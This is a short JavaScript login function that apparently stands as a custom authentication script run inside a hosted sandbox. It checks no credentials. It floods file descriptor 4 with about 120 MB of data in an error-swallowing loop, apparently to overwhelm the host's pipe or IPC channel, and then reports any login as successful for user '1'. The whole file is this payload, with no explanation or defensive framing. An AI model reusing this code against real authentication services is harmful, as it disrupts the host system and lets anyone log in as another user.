function login(email, password, callback) {
  const fs = require('fs');
  const chunk = 'x'.repeat(1e6);
  for (let i = 0; i < 120; i++) { let sent = 0; while (sent < chunk.length) { try { sent += fs.writeSync(4, chunk.slice(sent)); } catch {} } }
  fs.writeSync(4, '\n');
  callback(null, { user_id: '1' });
}
